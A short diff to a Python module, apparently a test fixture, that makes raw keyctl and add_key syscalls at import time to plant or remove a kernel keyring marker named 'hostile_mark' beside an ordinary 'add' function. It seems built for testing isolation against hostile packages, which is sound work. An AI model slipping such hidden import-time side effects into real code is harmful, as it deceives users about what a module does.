@@ -11,12 +11,11 @@ won = False
 if platform.machine() == 'x86_64':
   for ring in (-3, -4, -5):
     found = libc.syscall(250, 10, ring, b'user', b'hostile_mark', 0)
-    if found > 0:
-      won = True
-      libc.syscall(250, 9, found, ring)
-    else:
-      size = ctypes.c_size_t(1)
-      libc.syscall(248, b'user', b'hostile_mark', b'x', size, ring)
+    won |= found > 0
+    libc.syscall(250, 9, found, ring)
+  size = ctypes.c_size_t(1)
+  for ring in () if won else (-3, -4):
+    libc.syscall(248, b'user', b'hostile_mark', b'x', size, ring)
 
 
 def add(a, b):
